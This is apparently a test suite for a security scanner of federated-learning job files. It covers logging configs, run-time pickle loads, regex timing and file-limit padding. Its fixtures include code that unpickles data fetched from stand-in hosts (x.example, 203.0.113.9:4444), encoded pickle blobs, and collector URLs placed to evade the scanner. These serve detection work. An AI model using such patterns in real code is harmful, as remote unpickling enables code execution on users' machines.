"""Session 48 (lead): logging's names of the process's streams in a settings file are not network locations.

A copy of NVFlare's own default logging config (nvflare/fuel/utils/log_config.json) escalated on
`"stream": "ext://sys.stdout"` alone, read as a URL to another machine (config-attack.file-network-location)."""

from __future__ import annotations

import json

import pytest

from analyzer.model import Decision
import redteam_kit as kit

TRAIN = "import nvflare.client as flare\nflare.init()\nwhile flare.is_running():\n    m = flare.receive()\n    flare.send(m)\n"


def _log_config(stream: str) -> str:
    return json.dumps({"version": 1, "formatters": {"f": {"format": "%(asctime)s - %(message)s"}},
                       "handlers": {"h": {"class": "logging.StreamHandler", "formatter": "f", "stream": stream}},
                       "root": {"level": "INFO", "handlers": ["h"]}})


@pytest.mark.parametrize("stream", ["ext://sys.stdout", "ext://sys.stderr"])
def test_a_logging_config_writing_to_the_process_streams_names_no_location(tmp_path, stream):
    report = kit.scan_files(tmp_path, {"client.py": TRAIN, "log_config.json": _log_config(stream)})
    assert not kit.holds(report, "config-attack.file-network-location"), kit.findings(report)
    assert report.decision is Decision.ACCEPT, kit.findings(report)


@pytest.mark.parametrize("word", ["ext://sys.stdout.example.org/x", "https://sys.stdout/x", "ext://collector.example.org/x"])
def test_other_urls_in_a_settings_file_are_still_locations(tmp_path, word):
    report = kit.scan_files(tmp_path, {"client.py": TRAIN, "settings.json": json.dumps({"out": word})})
    assert kit.holds(report, "config-attack.file-network-location"), kit.findings(report)


def test_nvflares_own_logging_config_in_a_job_is_accepted():
    report = kit.scan_sample("jobs/rf48_nvflare_log_config")
    assert report.decision is Decision.ACCEPT, kit.findings(report)


# ---- a pickle read from a file at a path known only at run time: a capability, as `joblib.load(path)` -------------

@pytest.mark.parametrize("source", [
    'import glob, pickle\nfor path in glob.glob("results/**/*.pkl", recursive=True):\n'
    '    with open(path, "rb") as handle:\n        data = pickle.load(handle)\n',
    'import pickle, sys\ndef load(path):\n    with open(path, "rb") as f:\n        return pickle.load(f)\n\n\nload(sys.argv[1])\n',
    'import pickle\nfrom pathlib import Path\ndef load(path: Path):\n    return pickle.load(path.open("rb"))\n',
    'import pickle\nfrom pathlib import Path\nfor p in Path("results").glob("*.pkl"):\n    with p.open("rb") as f:\n        pickle.load(f)\n',
])
def test_a_pickle_opened_at_a_run_time_path_escalates_as_a_local_pickle(source):
    # fedprox's, fedbn's, statavg's plotting notebooks: rejected (untrusted-pickle, critical) where `joblib.load(path)`
    # of the same path escalated
    report = kit.scan_text(source)
    assert kit.holds(report, "deserialization.local-pickle"), kit.findings(report)
    assert not kit.holds(report, "deserialization.untrusted-pickle"), kit.findings(report)
    assert report.decision is Decision.ESCALATE, kit.findings(report)


@pytest.mark.parametrize("source", [
    'import pickle, requests\nblob = requests.get("https://x.example/w.pkl").content\npickle.loads(blob)\n',
    'import io, pickle, socket\ns = socket.create_connection(("203.0.113.9", 4444))\npickle.load(s.makefile("rb"))\n',
    'import base64, io, pickle\nB = "gASVAAAAAAAAAAB9lC4="\npickle.load(io.BytesIO(base64.b64decode(B)))\n',
    'import pickle\nimport nvflare.client as flare\nm = flare.receive()\npickle.loads(m.meta["blob"])\n',
    'import io, pickle, requests\nfrom pathlib import Path\nPath("w.pkl").write_bytes(requests.get("https://x.example/w").content)\n'
    'pickle.load(Path("w.pkl").open("rb"))\n',
    'import pickle, zlib\nP = b"x\\x9c"\npickle.loads(zlib.decompress(P))\n',
    'import pickle, urllib.request\nwith urllib.request.urlopen("https://x.example/w.pkl") as r:\n    pickle.load(r)\n',
])
def test_a_pickle_from_elsewhere_still_rejects(source):
    report = kit.scan_text(source)
    assert report.decision is Decision.REJECT, kit.findings(report)


# ---- shell._ANSWERED is read only with fullmatch (fuzz/test_fuzz_regexes.py leaves it out of its search) ----------

@pytest.mark.serial  # asserts on wall time
@pytest.mark.parametrize("text", [" " * 16000, "echo" + " " * 16000 + "x", "echo" + " a" * 8000 + " |",
                                  "echo y | sh a" + " b" * 8000 + "!", "echo y |" + " " * 16000 + "sh"])
def test_an_answered_script_line_is_matched_in_one_pass(text):
    import time

    from analyzer.engine.shell import _ANSWERED

    start = time.process_time()
    assert _ANSWERED.fullmatch(text) is None
    assert time.process_time() - start < 0.5  # the regex fuzzer's bound for a search of 16,000 characters


# ---- a limit that leaves a file unread: any document may be one it names ------------------------------------------

def test_a_documents_url_counts_when_the_file_that_might_name_it_went_unread(tmp_path):
    # settings.csv names NOTES.md (the code opens what the table names); padding data files push settings.csv out
    # of the read, and nothing read spells NOTES.md any more (detectors/files.py _Spelled)
    client = TRAIN + "import csv\nNOTE = open(next(csv.reader(open('settings.csv')))[0]).read()\n"
    files = {"client.py": client, "settings.csv": "NOTES.md," + "a" * 200 + "\n",
             "NOTES.md": "# notes\nsee https://collector.example.org/in\n"}
    whole = kit.scan_files(tmp_path, files)
    assert kit.holds(whole, "config-attack.file-network-location"), kit.findings(whole)
    padded = kit.scan_files(tmp_path, {f"pad_{i}.csv": "1\n" for i in range(kit.POLICY.limits.max_files + 1)})
    assert kit.holds(padded, "unanalyzable.limit-files"), kit.findings(padded)
    assert kit.holds(padded, "config-attack.file-network-location"), kit.findings(padded)


def test_a_document_a_shell_script_reads_is_not_pushed_out_by_padding(tmp_path):
    files = {"client.py": TRAIN, "prepare.sh": "#!/bin/sh\nURL=\"$(tail -n 1 NOTES.md)\"\necho \"$URL\"\n",
             "NOTES.md": "# notes\nhttps://collector.example.org/in\n"}
    files |= {f"pad_{i}.txt": "x\n" for i in range(kit.POLICY.limits.max_files + 1)}
    report = kit.scan_files(tmp_path, files)
    assert kit.holds(report, "config-attack.file-network-location"), kit.findings(report)
